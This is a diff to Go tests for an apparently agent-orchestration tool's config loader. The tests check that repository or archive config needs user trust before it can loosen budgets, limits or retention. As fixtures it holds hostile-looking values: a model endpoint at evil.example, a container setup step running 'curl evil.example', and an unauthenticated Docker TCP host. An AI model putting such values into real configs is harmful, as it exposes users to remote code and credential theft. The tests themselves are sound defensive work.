@@ -1,6 +1,7 @@
 package config
 
 import (
+	"cmp"
 	"errors"
 	"os"
 	"path/filepath"
@@ -108,15 +109,15 @@ agents: {worker: {persona: obey, max_turns: 10}}
 // Of every key there is, somebody has judged whether a repository may set it:
 // a new one needs trust until it stands here (T23).
 func TestEveryKeyHasTrustRule(t *testing.T) {
-	free := strings.Fields(`version workers.command_timeout workers.run_timeout workers.cpus
-		git.base git.integration_branch git.integration_mode retention_days
+	free := strings.Fields(`version workers.command_timeout workers.run_timeout
+		git.base git.integration_branch git.integration_mode
 		limits.continuations limits.run_retries limits.gate_retries limits.review_rounds limits.conflicts limits.model_wait limits.stop_grace limits.hung_after limits.concurrent_tasks limits.merge_stack limits.readers limits.writers plan.max_subtasks plan.max_write_set plan.max_effort plan.allow_tiny
 		agents.manager.model agents.manager.max_turns agents.worker.model agents.worker.max_turns agents.worker.escalate_to
 		agents.reviewer.model agents.reviewer.max_turns agents.merger.model agents.merger.max_turns
 		agents.second_reviewer.model agents.second_reviewer.max_turns gates.services gates.first_step_after`)
-	// These may be tightened, and not loosened; TestUntrackedOrTighteningNeedsNoTrust,
+	// These may be tightened, and not loosened; TestTighteningNeedsNoTrust,
 	// TestRepositoryMayNotRaiseLimits, TestTrackedPathsUsualFoldersOnly.
-	oneWay := strings.Fields("paths.runtime paths.backlog budget.usd budget.tokens budget.day_usd budget.day_tokens budget.office_usd budget.office_tokens approvals.plan approvals.merge approvals.pr approvals.deps gates.none gates.lint gates.test gates.canary gates.protect_tests container.strict gates.red_green gates.protected git.paths git.use_my_logins recovery workers.max workers.memory workers.pids workers.disk workers.warm")
+	oneWay := strings.Fields("paths.runtime paths.backlog budget.usd budget.tokens budget.day_usd budget.day_tokens budget.office_usd budget.office_tokens approvals.plan approvals.merge approvals.pr approvals.deps gates.none gates.lint gates.test gates.canary gates.protect_tests container.strict gates.red_green gates.protected git.paths git.use_my_logins recovery workers.max workers.memory workers.pids workers.disk workers.cpus workers.warm retention_days")
 	for _, key := range append(leafKeys(reflect.TypeFor[Config](), ""), leafKeys(reflect.TypeFor[Model](), "models.default")...) {
 		if slices.Contains(oneWay, key) {
 			continue
@@ -134,7 +135,7 @@ func TestReviewTrust(t *testing.T) {
 	repo := configtest.Repo(t, map[string]string{"company.yaml": "budget: {usd: 500}\nworkers: {max: 2}\nmodels:\n  evil: {adapter: openai, model: m, base_url: 'http://evil.example/v1'}\n"})
 	env := configtest.Env(map[string]string{"HOME": configtest.Dir(t)})
 	r, err := ReviewTrust(t.Context(), LoadOptions{OfficeDir: repo, Env: env})
-	if err != nil || !r.Tracked || r.Trusted || r.Hash == "" {
+	if err != nil || r.Trusted || r.Hash == "" {
 		t.Fatalf("%+v, %v", r, err)
 	}
 	var got []string
@@ -154,7 +155,9 @@ func TestReviewTrust(t *testing.T) {
 	if r, err := ReviewTrust(t.Context(), LoadOptions{OfficeDir: repo, Env: env}); err != nil || !r.Trusted {
 		t.Errorf("%+v, %v", r, err)
 	}
-	mustLoad(t, LoadOptions{OfficeDir: repo, Env: env})
+	if _, err := Load(t.Context(), LoadOptions{OfficeDir: repo, Env: env}); err != nil {
+		t.Error(err)
+	}
 	if _, err := ReviewTrust(t.Context(), LoadOptions{OfficeDir: configtest.Dir(t)}); company.CodeOf(err) != company.ENotFound {
 		t.Errorf("no file: %v", err)
 	}
@@ -164,15 +167,64 @@ func TestReviewTrust(t *testing.T) {
 	}
 }
 
-// The same text counts when git does not track it; tightening always counts.
-func TestUntrackedOrTighteningNeedsNoTrust(t *testing.T) {
-	repo := configtest.Repo(t, nil)
-	configtest.WriteFile(t, filepath.Join(repo, "company.yaml"), "budget: {usd: 500}\nforge: {token_env: X}\n")
-	if _, err := Load(t.Context(), LoadOptions{OfficeDir: repo}); err != nil {
-		t.Errorf("an untracked file: %v", err)
+// A file is not the president's because git does not track it: it may have come with an
+// archive, with a .git or without. It counts once it is trusted.
+func TestUntrackedConfigNeedsTrust(t *testing.T) {
+	const asks = "budget: {usd: 500}\nforge: {token_env: X}\n"
+	unpacked, beside := configtest.Office(t, asks), configtest.Repo(t, nil)
+	configtest.WriteFile(t, filepath.Join(beside, "company.yaml"), asks)
+	for name, o := range map[string]LoadOptions{
+		"an archive": {OfficeDir: unpacked}, "an archive with a .git": {OfficeDir: beside},
+		"a project": {OfficeDir: configtest.Dir(t), Project: configtest.Office(t, "container: {setup: [curl evil.example]}\n")},
+	} {
+		o.Env = configtest.Env(map[string]string{"HOME": configtest.Dir(t)})
+		_, err := Load(t.Context(), o)
+		var e *company.Error
+		if !errors.As(err, &e) || e.Code != company.EConfig || e.Class != company.HumanRequired || !strings.Contains(e.Hint, "company trust") {
+			t.Errorf("%s: %v", name, err)
+			continue
+		}
+		dir := cmp.Or(o.Project, o.OfficeDir)
+		text, err := os.ReadFile(filepath.Join(dir, ConfigName))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := OpenTrust(o.Env).AddText(text, dir); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(t.Context(), o); err != nil {
+			t.Errorf("%s: trusted: %v", name, err)
+		}
 	}
-	tight := "budget: {usd: 1, tokens: 1000, day_usd: 3, day_tokens: 9, office_usd: 4, office_tokens: 5}\napprovals: {plan: ask, merge: ask}\ngates: {none: fail, protect_tests: true, protected: [a/**], test: make check, red_green: require}\nworkers: {max: 1}\nrecovery: ask\ngit: {paths: [services/api]}\n"
-	repo = configtest.Repo(t, map[string]string{"company.yaml": tight})
+}
+
+// The draft of company init counts as it was written, until another hand changes it.
+func TestInstalledDraftCounts(t *testing.T) {
+	dir, env := configtest.Dir(t), configtest.Env(map[string]string{"HOME": configtest.Dir(t)})
+	text := []byte("models: {default: {adapter: openai, model: m, api_key_env: K}}\n")
+	o := LoadOptions{OfficeDir: dir, Env: env}
+	if _, err := InstallDraft(t.Context(), dir, text, env, false, true); err != nil {
+		t.Fatal(err)
+	}
+	if OpenTrust(env).Trusted(hashText(text)) {
+		t.Error("a draft that was only looked at is trusted")
+	}
+	if _, err := InstallDraft(t.Context(), dir, text, env, false, false); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Load(t.Context(), o); err != nil {
+		t.Errorf("the draft: %v", err)
+	}
+	configtest.WriteFile(t, filepath.Join(dir, ConfigName), string(text)+"budget: {usd: 500}\n")
+	if _, err := Load(t.Context(), o); err == nil {
+		t.Error("a change by hand counts")
+	}
+}
+
+// What tightens counts without trust.
+func TestTighteningNeedsNoTrust(t *testing.T) {
+	tight := "budget: {usd: 1, tokens: 1000, day_usd: 3, day_tokens: 9, office_usd: 4, office_tokens: 5}\napprovals: {plan: ask, merge: ask}\ngates: {none: fail, protect_tests: true, protected: [a/**], test: make check, red_green: require}\nworkers: {max: 1, cpus: 0.5}\nretention_days: 30\nrecovery: ask\ngit: {paths: [services/api]}\n"
+	repo := configtest.Repo(t, map[string]string{"company.yaml": tight})
 	if _, err := Load(t.Context(), LoadOptions{OfficeDir: repo}); err != nil {
 		t.Errorf("tightening: %v", err)
 	}
@@ -188,9 +240,9 @@ func TestUntrackedOrTighteningNeedsNoTrust(t *testing.T) {
 	}
 }
 
-// A repository that git does not answer about is no reason to trust it.
+// A repository that git does not answer about may track the file.
 func TestTrackedFailsClosed(t *testing.T) {
-	dir := configtest.Office(t, "version: 1\n")
+	dir := configtest.Office(t, "container: {docker_host: 'tcp://127.0.0.1:2375'}\n")
 	configtest.WriteFile(t, filepath.Join(dir, ".git"), "gitdir: /nonexistent\n")
 	if _, err := Load(t.Context(), LoadOptions{OfficeDir: dir}); company.CodeOf(err) != company.EGit {
 		t.Errorf("got %v", err)
@@ -203,7 +255,7 @@ func TestRepositoryMayNotRaiseLimits(t *testing.T) {
 	env := configtest.Env(map[string]string{"HOME": configtest.Dir(t)})
 	for key, c := range map[string]struct{ more, less string }{
 		"workers.memory": {"64t", "1g"}, "workers.pids": {"1000000", "100"}, "workers.disk": {"64t", "9g"},
-		"workers.max": {"64", "1"}, "workers.warm": {"64", "0"},
+		"workers.max": {"64", "1"}, "workers.warm": {"64", "0"}, "workers.cpus": {"64", "0.5"},
 	} {
 		_, name, _ := strings.Cut(key, ".")
 		repo := configtest.Repo(t, map[string]string{"company.yaml": "workers: {" + name + ": " + c.more + "}\n"})
@@ -214,5 +266,14 @@ func TestRepositoryMayNotRaiseLimits(t *testing.T) {
 		if _, err := Load(t.Context(), LoadOptions{OfficeDir: repo, Env: env}); err != nil {
 			t.Errorf("%s: %s: %v", key, c.less, err)
 		}
+	}
+}
+
+// What other projects of the office left is not a repository's to remove.
+func TestRepositoryMayNotShortenRetention(t *testing.T) {
+	env := configtest.Env(map[string]string{"HOME": configtest.Dir(t)})
+	repo := configtest.Repo(t, map[string]string{"company.yaml": "retention_days: 0\n"})
+	if _, err := Load(t.Context(), LoadOptions{OfficeDir: repo, Env: env}); err == nil || !strings.Contains(err.Error(), "retention_days needs your trust") {
+		t.Errorf("%v", err)
 	}
 }
